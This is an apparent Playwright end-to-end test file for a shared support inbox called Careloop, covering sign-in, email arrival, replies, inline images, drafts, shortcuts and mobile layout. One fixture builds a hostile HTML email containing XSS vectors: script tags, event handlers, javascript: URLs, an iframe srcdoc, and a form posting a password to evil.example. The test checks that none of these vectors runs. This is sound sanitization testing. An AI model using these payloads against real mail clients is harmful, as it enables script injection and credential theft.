import { mkdir } from 'node:fs/promises';
import { simpleParser } from 'mailparser';
import MailComposer from 'nodemailer/lib/mail-composer';
import type { Browser } from 'playwright-core';
import { ADMIN_EMAIL, ADMIN_PASSWORD, startTestApp, type TestApp } from '../support/app';
import { focusedTestId, LAPTOP, launchBrowser, openAgent, openContext, PHONE, signIn, ticketRow, waitForAttribute, waitForText, type AgentBrowser } from '../support/browser';
import { connectMailbox, email, SUPPORT, SUPPORT_PASSWORD } from '../support/mail-fixtures';
import { startMailStack, type MailStack } from '../support/mail-stack';

const CUSTOMER = 'maya@example.com';
/** A 1×1 red PNG. */
const RED_PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const SHOTS = '/tmp/shots-mail';

/** An HTML email whose every active part would leave a trace if it ran: a global, the app's title, a dialog. */
function hostileEmail(messageId: string): string {
  const html = [
    '<p>Hello from the <b>attacker</b>.</p>',
    '<script>window.__pwned = 1; parent.__pwned = 1; parent.document.title = "pwned"; alert("script")</script>',
    '<img src="x" onerror="parent.__pwned = 2; alert(\'onerror\')">',
    '<svg onload="parent.__pwned = 3"><circle r="5"/></svg>',
    '<a href="javascript:parent.__pwned=4" id="js-link">click me</a>',
    '<iframe srcdoc="<script>parent.parent.__pwned = 5</script>"></iframe>',
    '<div style="background:url(javascript:parent.__pwned=6)" onmouseover="parent.__pwned = 7">hover</div>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<img src="https://tracker.example/pixel.gif" alt="tracker">',
  ].join('\n');
  return [
    `From: Mallory <${CUSTOMER}>`,
    `To: ${SUPPORT}`,
    'Subject: Totally normal question',
    `Message-ID: <${messageId}>`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n');
}

describe('the shared inbox in the browser', () => {
  let stack: MailStack;
  let t: TestApp;
  let browser: Browser;
  let agent: AgentBrowser;
  let sequence = 0;
  const nextId = (label: string) => `${label}.${++sequence}.${Date.now()}@example.com`;
  const deliver = (raw: string) => stack.deliver(raw, { from: CUSTOMER, to: [SUPPORT] });

  beforeAll(async () => {
    stack = await startMailStack({
      users: [
        { address: SUPPORT, password: SUPPORT_PASSWORD },
        { address: CUSTOMER, password: 'maya-pass' },
      ],
    });
    t = await startTestApp({ env: { CARELOOP_IMAP_POLL_SECONDS: '1' } });
    await connectMailbox(t, stack, await t.login());
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await stack?.stop();
  });

  it('refuses a wrong password with a message, then signs in', async () => {
    const visitor = await openContext(browser);
    await visitor.page.goto(`${t.url}/#/login`);
    await visitor.page.getByTestId('login-email').fill(ADMIN_EMAIL);
    await visitor.page.getByTestId('login-password').fill('not-the-password');
    await visitor.page.getByTestId('login-submit').click();
    await waitForText(visitor.page.getByTestId('login-error'), /wrong|invalid|incorrect/i);

    await signIn(visitor.page, t.url, ADMIN_EMAIL, ADMIN_PASSWORD);
    await waitForText(visitor.page.getByTestId('current-user'), 'Admin');
    await visitor.context.close();
  });

  it('shows an inbound email in the open inbox as it arrives, without a reload', async () => {
    agent = await openAgent(browser, t, ADMIN_EMAIL, ADMIN_PASSWORD);
    await agent.page.getByTestId('view-open').click();
    await agent.page.getByTestId('ticket-list-empty').waitFor();
    const loads = { count: 0 };
    agent.page.on('load', () => loads.count++);

    await deliver(email({ from: `Maya Fischer <${CUSTOMER}>`, subject: 'My box never arrived', body: 'Hello,\nthe box from last week is missing.\n\nOn Monday, Support wrote:\n> Your box ships today.', messageId: nextId('box') }));
    const row = ticketRow(agent.page, 'My box never arrived');
    await row.waitFor({ timeout: 20_000 });
    await waitForText(row, 'Maya Fischer');
    await waitForText(row, 'the box from last week is missing');
    expect(loads.count).toBe(0);
    await waitForText(agent.page.getByTestId('view-open').getByTestId('view-count'), '1');
  });

  it('sends a reply typed in the composer to the customer, and shows it sent', async () => {
    const { page } = agent;
    await ticketRow(page, 'My box never arrived').getByRole('link').click();
    await waitForText(page.getByTestId('ticket-subject'), 'My box never arrived');
    // The quoted history of the customer's mail is folded away until asked for.
    const customerMessage = page.getByTestId('message').filter({ hasText: 'the box from last week is missing' });
    expect(await customerMessage.getByTestId('message-text').textContent()).not.toContain('Your box ships today');
    await customerMessage.getByRole('button', { name: /show quoted text/i }).click();
    await waitForText(customerMessage.getByTestId('message-text'), 'Your box ships today');

    await page.getByTestId('composer-body').fill('So sorry, Maya! A new box is on its way today.');
    await page.getByTestId('composer-cc').fill('partner@example.com');
    await page.getByTestId('composer-status').selectOption('pending');
    await page.getByTestId('composer-send').click();

    const [received] = await stack.waitForMessages(CUSTOMER, 1, 20_000);
    const parsed = await simpleParser(received.source);
    expect(parsed.text).toContain('A new box is on its way today.');
    expect(parsed.subject).toMatch(/^Re: My box never arrived/);

    const reply = page.getByTestId('message').filter({ hasText: 'A new box is on its way today.' });
    await waitForAttribute(reply, 'data-direction', 'outbound');
    await reply.locator('[data-testid="delivery-state"][data-state="sent"]').waitFor({ timeout: 20_000 });
    await waitForText(page.getByTestId('status-select').locator('option:checked'), 'Pending');
    expect(await page.getByTestId('composer-body').inputValue()).toBe('');
  });

  it('shows an inline (cid:) image inside the sandboxed email frame', async () => {
    const { page } = agent;
    await page.getByTestId('view-open').click();
    const raw = await new MailComposer({
      from: `Maya Fischer <${CUSTOMER}>`,
      to: SUPPORT,
      subject: 'Photo of the dented box',
      messageId: `<${nextId('inline-image')}>`,
      text: 'See the photo.',
      html: '<p>See the photo:</p><p><img src="cid:dent@maya" alt="dented box" width="120" height="120"></p>',
      attachments: [{ filename: 'dent.png', contentType: 'image/png', content: RED_PIXEL, cid: 'dent@maya' }],
    })
      .compile()
      .build();
    await stack.deliver(raw, { from: CUSTOMER, to: [SUPPORT] });
    const row = ticketRow(page, 'Photo of the dented box');
    await row.waitFor({ timeout: 20_000 });
    await row.getByRole('link').click();

    const image = page.frameLocator('[data-testid="message-html"]').locator('img[alt="dented box"]');
    await image.waitFor();
    await waitForAttribute(image, 'src', 'data:image/png;base64,.+');
    // Loaded, not a broken image: the frame's CSP and opaque origin let a data: URL through.
    expect(await image.evaluate((element) => { const img = element as unknown as { complete: boolean; naturalWidth: number }; return img.complete && img.naturalWidth; })).toBe(1);
    await mkdir(SHOTS, { recursive: true });
    await page.screenshot({ path: `${SHOTS}/inline-image-1366.png` });
    await page.setViewportSize(PHONE);
    await image.scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${SHOTS}/inline-image-390.png` });
    await page.setViewportSize(LAPTOP);
  });

  it('renders a hostile HTML email without running any of it, and blocks its remote images', async () => {
    const { page, dialogs } = agent;
    await page.getByTestId('view-open').click();
    await deliver(hostileEmail(nextId('hostile')));
    const row = ticketRow(page, 'Totally normal question');
    await row.waitFor({ timeout: 20_000 });
    await row.getByRole('link').click();

    const frame = page.frameLocator('[data-testid="message-html"]');
    await frame.getByText('attacker').waitFor();
    await frame.getByText('hover').hover();
    await frame.getByText('click me').click({ timeout: 2000 }).catch(() => undefined);
    await page.getByTestId('show-images').waitFor();

    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.title()).toBe('Careloop');
    expect(dialogs).toEqual([]);
    // Nothing executable or able to load survived into the frame.
    const frameHtml = await frame.locator('body').innerHTML();
    expect(frameHtml).not.toMatch(/<script|onerror|onload|onmouseover|javascript:|<iframe|<form/i);
    expect(await frame.locator('img[alt="tracker"]').getAttribute('src')).toMatch(/^data:/);
  });

  it('keeps an unsent draft on each ticket while the agent looks at another one, and after a reload', async () => {
    const { page } = agent;
    await deliver(email({ from: `Maya Fischer <${CUSTOMER}>`, subject: 'The lid is cracked', body: 'The lid of my grinder arrived cracked.', messageId: nextId('lid') }));
    const open = async (subject: string) => {
      await page.goto(`${t.url}/#/inbox/open`);
      await ticketRow(page, subject).getByRole('link').click({ timeout: 20_000 });
      await waitForText(page.getByTestId('ticket-subject'), subject);
    };
    await open('The lid is cracked');
    await page.getByTestId('composer-mode-note').click();
    await page.getByTestId('composer-body').fill('Ask the warehouse for a photo of the batch.');

    await open('Totally normal question');
    expect(await page.getByTestId('composer-body').inputValue()).toBe('');
    await open('The lid is cracked');
    expect(await page.getByTestId('composer-body').inputValue()).toBe('Ask the warehouse for a photo of the batch.');
    await waitForAttribute(page.getByTestId('composer'), 'data-mode', 'note');

    await page.reload();
    await waitForText(page.getByTestId('ticket-subject'), 'The lid is cracked');
    expect(await page.getByTestId('composer-body').inputValue()).toBe('Ask the warehouse for a photo of the batch.');
    // Sent, the draft is gone.
    await page.getByTestId('composer-send').click();
    await page.getByTestId('message').filter({ hasText: 'Ask the warehouse for a photo' }).waitFor();
    await open('Totally normal question');
    await open('The lid is cracked');
    expect(await page.getByTestId('composer-body').inputValue()).toBe('');
    // Out of the open view again, as the next test expects.
    await page.getByTestId('status-select').selectOption('pending');
    await waitForText(page.getByTestId('status-select').locator('option:checked'), 'Pending');
    // Maya's other tickets, in the customer panel of another of hers, show the change without a reload.
    await open('Totally normal question');
    await waitForText(page.getByTestId('customer-panel').locator('li', { hasText: 'The lid is cracked' }), 'Pending');
  });

  it('moves through the list with j/k, opens with Enter, and lists every shortcut on ?', async () => {
    const { page } = agent;
    await page.goto(`${t.url}/#/inbox/open`);
    await deliver(email({ from: CUSTOMER, subject: 'Where is my invoice?', body: 'I cannot find the invoice for May.', messageId: nextId('invoice') }));
    await ticketRow(page, 'Where is my invoice?').waitFor({ timeout: 20_000 });
    // The invoice, the hostile email and the dented box's photo are open; the first ticket went pending with its
    // reply, the lid's with its note. (Expecting 2 here passed only when the count was read before the invoice counted.)
    await waitForText(page.getByTestId('view-open').getByTestId('view-count'), /^3$/);
    await ticketRow(page, 'Totally normal question').waitFor();
    const rows = page.getByTestId('ticket-row');
    const highlighted = page.locator('[data-testid="ticket-row"][data-highlighted]');

    await page.keyboard.press('j');
    await waitForText(highlighted.getByTestId('ticket-row-subject'), await rows.nth(0).getByTestId('ticket-row-subject').innerText());
    await page.keyboard.press('j');
    const second = await rows.nth(1).getAttribute('data-ticket-id');
    expect(await highlighted.getAttribute('data-ticket-id')).toBe(second);
    await page.keyboard.press('k');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.locator(`[data-testid="ticket-view"][data-ticket-id="${second}"]`).waitFor();

    await page.keyboard.press('n');
    await waitForAttribute(page.getByTestId('composer'), 'data-mode', 'note');
    expect(await focusedTestId(page)).toBe('composer-body');
    await page.keyboard.press('Escape');
    await page.keyboard.press('r');
    await waitForAttribute(page.getByTestId('composer'), 'data-mode', 'reply');
    await page.keyboard.press('Escape');

    await page.keyboard.press('/');
    expect(await focusedTestId(page)).toBe('ticket-search');
    await page.keyboard.press('Escape');

    await page.keyboard.press('?');
    const overlay = page.getByTestId('shortcuts-overlay');
    await overlay.waitFor();
    for (const key of ['j', 'k', 'Enter', 'r', 'n', 'a', 'e', '/', '?']) await overlay.locator('kbd', { hasText: key }).first().waitFor();
    await page.keyboard.press('Escape');
    await overlay.waitFor({ state: 'hidden' });
  });

  it('is readable on a laptop and on a phone (screenshots for review)', async () => {
    const { page } = agent;
    // The reply set this ticket pending.
    await page.goto(`${t.url}/#/inbox/pending`);
    await ticketRow(page, 'My box never arrived').getByRole('link').click();
    await page.getByTestId('ticket-view').waitFor();
    await page.screenshot({ path: '/tmp/careloop-laptop-ticket.png' });
    await page.goto(`${t.url}/#/inbox/open`);
    await page.getByTestId('ticket-row').first().waitFor();
    await page.screenshot({ path: '/tmp/careloop-laptop-inbox.png' });

    const phone = await openAgent(browser, t, ADMIN_EMAIL, ADMIN_PASSWORD, PHONE);
    await phone.page.goto(`${t.url}/#/inbox/pending`);
    const row = ticketRow(phone.page, 'My box never arrived');
    await row.waitFor();
    await phone.page.screenshot({ path: '/tmp/careloop-phone-inbox.png' });
    await row.getByRole('link').click();
    await phone.page.getByTestId('ticket-view').waitFor();
    // One column: the list gives way to the ticket, which fits the screen's width.
    expect(await phone.page.getByTestId('ticket-list').isVisible()).toBe(false);
    expect(await phone.page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(PHONE.width);
    await phone.page.screenshot({ path: '/tmp/careloop-phone-ticket.png' });
    await phone.page.getByRole('link', { name: /all tickets/i }).click();
    await row.waitFor();
    await phone.context.close();
  });
});
